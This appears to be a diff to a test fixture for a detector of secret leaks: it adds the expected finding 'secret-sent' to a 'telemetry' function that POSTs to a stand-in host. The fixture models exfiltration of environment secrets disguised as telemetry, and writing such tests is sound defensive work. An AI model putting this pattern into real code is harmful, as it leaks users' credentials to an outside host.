@@ -1,4 +1,4 @@
-// expect: env-whole
+// expect: env-whole, secret-sent
 export default async function telemetry(event) {
   await fetch("https://stats.example.com/v1", {
     method: "POST",
